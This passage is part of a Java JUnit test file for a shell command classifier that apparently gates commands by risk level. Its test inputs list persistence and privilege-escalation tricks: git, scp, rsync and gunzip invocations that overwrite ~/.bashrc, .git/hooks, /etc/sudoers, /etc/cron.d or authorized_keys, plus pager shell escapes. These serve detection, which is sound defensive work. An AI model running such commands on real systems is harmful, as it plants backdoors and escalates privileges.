     * and {@code -r}, a suffix given with {@code -S}, legacy scp's far end receiving into the home. Each
     * was a WRITE until 2026-12-06. rsync's far end ({@code rsync --server}) was already UNKNOWN: its
     * {@code -e.} protocol flags read as {@code rsync -e}, a program.
     */
    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiterString = " => ", value = {
            "git pull => UNKNOWN",
            "git pull origin main => UNKNOWN",
            "git -C ~ pull => UNKNOWN",
            "git -C ~/dotfiles pull => UNKNOWN",
            "git -C /home/deploy checkout main => UNKNOWN",
            "git -C /root reset --hard origin/main => UNKNOWN",
            "git -C /home/deploy reset --ha origin/main => UNKNOWN",
            "cd /home/deploy && git merge origin/main => UNKNOWN",
            "cd $DIR && git pull => UNKNOWN",
            "git -C $DIR pull => UNKNOWN",
            "git -C / pull => DANGEROUS_ADMIN", // writes the working tree at /, the home among it
            "git -C /home pull => UNKNOWN",
            "git -C /var/www -C ../../home/deploy pull => UNKNOWN",
            "git apply evil.patch => UNKNOWN",
            "git am evil.mbox => UNKNOWN",
            "git stash pop => UNKNOWN",
            "git stash => UNKNOWN",
            "git restore . => UNKNOWN",
            "git restore -SW .bashrc => UNKNOWN",
            "git checkout -- . => UNKNOWN",
            "git switch main => UNKNOWN",
            "git cherry-pick abc123 => UNKNOWN",
            "git rebase main => UNKNOWN",
            "sh -c 'git pull' => UNKNOWN",
            "bash -lc 'git pull' => UNKNOWN",
            "nice git pull => UNKNOWN",
            "env LC_ALL=C git pull => UNKNOWN",
            "timeout 60 git pull => UNKNOWN",
            "command git pull => UNKNOWN",
            "exec git pull => UNKNOWN",
            "echo main | xargs git checkout => UNKNOWN",
            "git log -1 --format=%B --output=/home/deploy/.bashrc => UNKNOWN",
            "git -C /var/www/app log --output .bashrc => UNKNOWN",
            "git diff --out=~/.profile => UNKNOWN",
            "git archive -o ~/.bashrc HEAD => UNKNOWN",
            "git format-patch -o ~/.git/hooks HEAD~1 => UNKNOWN",
            "git -C /var/www/app mv notes .git/config => UNKNOWN",
            "gunzip -N /tmp/x/payload.gz => UNKNOWN",
            "gzip -dN payload.gz => UNKNOWN",
            "gunzip --name payload.gz => UNKNOWN",
            "gunzip -r /var/www/app => UNKNOWN",
            "zstd -dr /var/www/app => UNKNOWN",
            "gunzip -S .x ~/.bashrc.x => UNKNOWN",
            "gunzip -S.bak ~/.profile.bak => UNKNOWN",
            "xz -d --suffix=.y ~/.bashrc.y => UNKNOWN",
            "gunzip -S $S ~/x => UNKNOWN",
            "scp -t /home/deploy => UNKNOWN",
            "scp -t /home/deploy/ => UNKNOWN",
            "scp -r -t /home/deploy => UNKNOWN",
            "scp -pt /root => UNKNOWN",
            "scp -r -t -- /root/. => UNKNOWN",
            "scp -t ~ => UNKNOWN",
            "scp -t . => UNKNOWN",
            "nice scp -t /home/deploy => UNKNOWN",
            "rsync --server -e.LsfxCIvu . . => UNKNOWN",
            "rsync --server -e.LsfxCIvu . ~ => UNKNOWN",
            "rsync --server -logDtpre.iLsfxCIvu . /home/deploy => UNKNOWN",
            // Elsewhere, or without writing the tree, they stay as they were.
            "git -C /var/www/app pull => WRITE",
            "cd /var/www/app && git pull => WRITE",
            "cd /var/www && git -C app reset --hard origin/main => WRITE",
            "git reset HEAD~1 => WRITE",
            "git restore --staged notes.txt => WRITE",
            "git apply --check fix.patch => WRITE",
            "git stash list => WRITE",
            "git fetch origin => WRITE",
            "git log --oneline => WRITE",
            "git clean -n => WRITE",
            "git -C /var/www/app clean -fdx => BULK_WRITE",
            "git -C /var/www/app log --output=/tmp/log.txt => WRITE",
            "git archive -o /tmp/app.tar HEAD => WRITE",
            "scp -t /home/deploy/uploads => WRITE",
            "scp -r -t /tmp/uploads => WRITE",
            "gunzip app.log.gz => WRITE",
            "gunzip -S .x app.log.x => WRITE",
    })
    void whatWritesTheHomeUnderNamesTheLineDoesNotShowIsUnknown(String line, StatementClass expected) {
        ShellClassification classification = ShellCommandClassifier.classify(line.strip());
        assertThat(classification.statementClass()).as("%s %s", line, classification.reasons()).isEqualTo(expected);
    }

    @ParameterizedTest(name = "{0} {1} -> {2}")
    @CsvSource({"write, /home/app/.bashrc", "write, /home/app/repo/.git/config", "rename, /home/app/.profile",
            "write, /home/app/.ssh/rc", "rename, /home/app/.ssh/environment", "write, /home/app/bin/ls",
            "write, /root/.local/bin/ls", "write, /home/app/.lessfilter"})
    void fileChangesToWhatRunsLaterAreUnknown(String operation, String path) {
        assertThat(ShellCommandClassifier.fileChange(List.of(path), operation).statementClass())
                .isEqualTo(StatementClass.UNKNOWN);
    }

    /**
     * With a terminal, a pager ({@code !command}), {@code top} ({@code k}) and programs that page their
     * output read keystrokes that run commands: a shell by another name. Without one they only print.
     */
    @ParameterizedTest
    @ValueSource(strings = {"less app.log", "more app.log", "top", "htop", "git log", "git -C repo diff",
            "journalctl -u nginx", "systemctl status nginx", "dpkg -l", "nice less app.log", "sh -c 'less app.log'",
            "cat app.log | less", "ls; top"})
    void programsThatTakeCommandKeystrokesInATerminalAreUnknown(String line) {
        assertThat(ShellCommandClassifier.classify(line).statementClass().isHighestRisk()).as(line).isFalse();
        ShellClassification inTerminal = ShellCommandClassifier.classifyInTerminal(line);
        assertThat(inTerminal.statementClass()).as("%s %s", line, inTerminal.reasons()).isEqualTo(StatementClass.UNKNOWN);
    }

    @ParameterizedTest
    @ValueSource(strings = {"cat app.log", "git --no-pager log", "git -P log", "systemctl --no-pager status nginx",
            "journalctl --no-pager -u nginx", "journalctl -fu nginx", "dmesg -T", "uptime", "tail -n 20 app.log"})
    void programsThatOnlyPrintAreClassifiedAlikeInATerminal(String line) {
        assertThat(ShellCommandClassifier.classifyInTerminal(line).statementClass())
                .isEqualTo(ShellCommandClassifier.classify(line).statementClass());
    }

    @ParameterizedTest
    @ValueSource(strings = {"touch notes.txt", "echo hi > notes.txt", "rm notes.txt"})
    void typedLinesWriteToAnUnknownWorkingDirectory(String line) {
        assertThat(ShellCommandClassifier.classify(line).statementClass()).isNotEqualTo(StatementClass.UNKNOWN);
        assertThat(ShellCommandClassifier.classifyTyped(line).statementClass()).isEqualTo(StatementClass.UNKNOWN);
    }

    @ParameterizedTest
    @ValueSource(strings = {"touch /tmp/x", "echo hi > /tmp/x", "ls", "cat ~/notes", "echo hi > ~/notes"})
    void typedLinesWithAbsolutePathsAreClassified(String line) {
        assertThat(ShellCommandClassifier.classifyTyped(line).statementClass().isHighestRisk()).isFalse();
    }

    @ParameterizedTest(name = "{0} {1} -> {2}")
    @CsvSource({"write, /home/app/x.txt, WRITE", "write, /etc/hosts, PRIVILEGE", "delete, /boot/vmlinuz, DANGEROUS_ADMIN",
            "write, /root/.ssh/authorized_keys, PRIVILEGE", "write, /tmp/../etc/shadow, PRIVILEGE"})
    void fileChangesAreClassifiedByWhereTheyAre(String operation, String path, StatementClass expected) {
        assertThat(ShellCommandClassifier.fileChange(List.of(path), operation).statementClass()).isEqualTo(expected);
    }

    @org.junit.jupiter.api.Test
    void reasonsNameWhatRaisedTheClass() {
        assertThat(ShellCommandClassifier.classify("ls && sudo id").reasons()).anyMatch(r -> r.contains("sudo"));
        assertThat(ShellCommandClassifier.classify("ls && sudo id").programs()).containsExactly("ls", "sudo");
        assertThat(ShellCommandClassifier.classify("echo $(id)").reasons().getFirst()).contains("command substitution");
    }

    /**
     * A refusal names what the gateway could not read: the expansion that names the program, and the
     * part of the line that raised its class, not a harmless command before it. Until 2026-12-07
     * {@code $X d} was refused as "the program's name is only known once the shell expands it", and
     * {@code ls; $X} as "ls reads" (the first reason, which the high-risk refusal quotes).
     */
    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiterString = " => ", value = {
            "$X -rf d => the program's name is only known once the shell expands $X,",
            "\"${CMD:-rm}\" d => the program's name is only known once the shell expands ${CMD:-rm},",
            "ls; $X => the program's name is only known once the shell expands $X,",
            "cat f | ${X}$Y => the program's name is only known once the shell expands ${X} $Y,",
            "sh -c \"$SCRIPT\" => sh -c runs a script only known once the shell expands $SCRIPT",
            "ls; echo x > \"$OUT\" => a redirection (>) writes to a path only known once the shell expands $OUT",
            "ls -la; sudo id => sudo runs commands as another user"})
    void aRefusalNamesWhatRaisedTheClass(String line, String reason) {
        ShellClassification classification = ShellCommandClassifier.classify(line);
        assertThat(classification.reasons().getFirst()).as("%s %s", line, classification.reasons()).startsWith(reason);
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiterString = " => ", value = {
            "cd /tmp/lnk && echo x > hosts => /tmp/lnk/hosts",
            "echo x > a; cp a /srv/x/y; tee -a ~/notes < a => ~/a|/srv/x/y|~/notes",
            "echo x > /tmp/lnk/../hosts; cd /srv && cp f ../x => /tmp/lnk/../hosts|/srv/f|/srv/../x",
            "ls > /dev/null => ''",
            "cat f => ''"})
    void theFilesALineWritesAreNamedForTheHostToPlace(String line, String writes) {
        assertThat(ShellCommandClassifier.classify(line).writes())
                .containsExactlyElementsOf(writes.isEmpty() ? List.of() : List.of(writes.split("\\|")));
    }

    /**
     * git writes the repository and working tree it runs in, and the directory or file a command names:
     * where that is a system directory (etckeeper keeps {@code /etc} in git), the write is judged there.
     * Until 2026-12-07 each of these was a WRITE: {@code git -C /etc checkout -- sudoers} rewrote
     * {@code /etc/sudoers} where writes under {@code /etc} were refused.
     */
    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiterString = " => ", value = {
            "git -C /etc checkout -- sudoers => PRIVILEGE",
            "cd /etc && git reset --hard HEAD~1 => PRIVILEGE",
            "git -C /etc rm hosts => PRIVILEGE",
            "git -C /etc stash pop => PRIVILEGE",
            "git -C /boot pull => DANGEROUS_ADMIN",
            "git clone https://example.org/r.git /etc/cron.d => PRIVILEGE",
            "git clone -b main https://example.org/r.git /usr/local/bin => PRIVILEGE",
            "git clone https://example.org/r.git ~/.config/git => UNKNOWN",
            "git init /etc => PRIVILEGE",
            "git worktree add -b x /etc/x => PRIVILEGE",
            "git bundle create ~/.bashrc HEAD => UNKNOWN",
            "git bundle create /etc/x HEAD => PRIVILEGE",
            // Where git only reads, or writes outside system directories, it stays what it was.
            "git -C /etc log --oneline => WRITE",
            "git -C /var/www/app pull => WRITE",
            "git clone https://example.org/r.git /tmp/r => WRITE",
            "git status => WRITE"})
    void gitIsJudgedWhereItWrites(String line, StatementClass expected) {
        ShellClassification classification = ShellCommandClassifier.classify(line);
        assertThat(classification.statementClass()).as("%s %s", line, classification.reasons()).isEqualTo(expected);
    }

    private static void assertClassified(String line, StatementClass expected) {
        ShellClassification classification = ShellCommandClassifier.classify(line);
        assertThat(classification.statementClass()).as("%s %s", line, classification.reasons()).isEqualTo(expected);
    }
}
